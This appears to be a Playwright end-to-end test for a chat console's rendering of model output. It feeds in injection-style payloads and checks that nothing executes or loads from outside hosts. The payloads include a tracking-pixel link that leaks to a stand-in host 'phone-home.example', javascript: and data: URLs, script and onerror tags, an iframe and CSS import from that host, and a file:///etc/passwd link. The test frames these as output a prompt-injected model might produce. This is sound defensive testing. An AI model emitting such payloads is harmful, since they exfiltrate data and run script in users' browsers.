import { configureModel, expect, setKey, signIn, test } from '../support/console-test.ts';

const away = 'http://phone-home.example';

/** What a model may say when a document told it to. */
const hostile = [
  `![pixel](${away}/pixel.png?leak=1)`,
  `![data](data:text/html,<script>window.ran=1</script>)`,
  `[click](javascript:window.ran=1)`,
  `[padded]( java\nscript:window.ran=1)`,
  `[file](file:///etc/passwd) [scheme](app://console/secrets) [own](/console/api/secrets)`,
  `<img src=x onerror="window.ran=1"><script>window.ran=1</script>`,
  `<iframe src="${away}/frame"></iframe><link rel="stylesheet" href="${away}/style.css">`,
  `<style>@import url(${away}/import.css)</style>`,
  `<a href="javascript:window.ran=1">raw</a>`,
  `[fine](https://example.com/docs)`,
  `The end of it.`,
].join('\n\n');

test('what a model says runs nothing, loads nothing, and leads only to web addresses', async ({
  home,
  start,
  upstream,
  page,
}) => {
  await configureModel(home, await upstream(() => ({ blocks: [{ type: 'text', text: hostile }] })));
  const program = await start();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await signIn(page, program);
  await setKey(page);
  await page.getByRole('link', { name: 'Playground', exact: true }).click();
  await page.getByRole('textbox', { name: 'Message' }).fill('Read the document');
  await page.keyboard.press('Enter');

  const answer = page.getByRole('article', { name: 'Agent' });
  await expect(answer).toContainText('The end of it.');
  // Plain words until the code for Markdown is there.
  await expect(answer.getByRole('link', { name: 'fine' })).toBeVisible();
  for (const text of ['click', 'file', 'raw', 'data']) await expect(answer.getByText(text).first()).toBeVisible();
  const links = await answer.getByRole('link').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  expect(links).toEqual([`${away}/pixel.png?leak=1`, 'https://example.com/docs']);
  await expect(answer.locator('img, script, iframe, style, link, object, embed, form')).toHaveCount(0);
  await answer.getByText('click').click();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  const own = new URL(page.url()).origin;
  expect(asked.filter((url) => /^https?:/.test(url) && new URL(url).origin !== own)).toEqual([]);
});
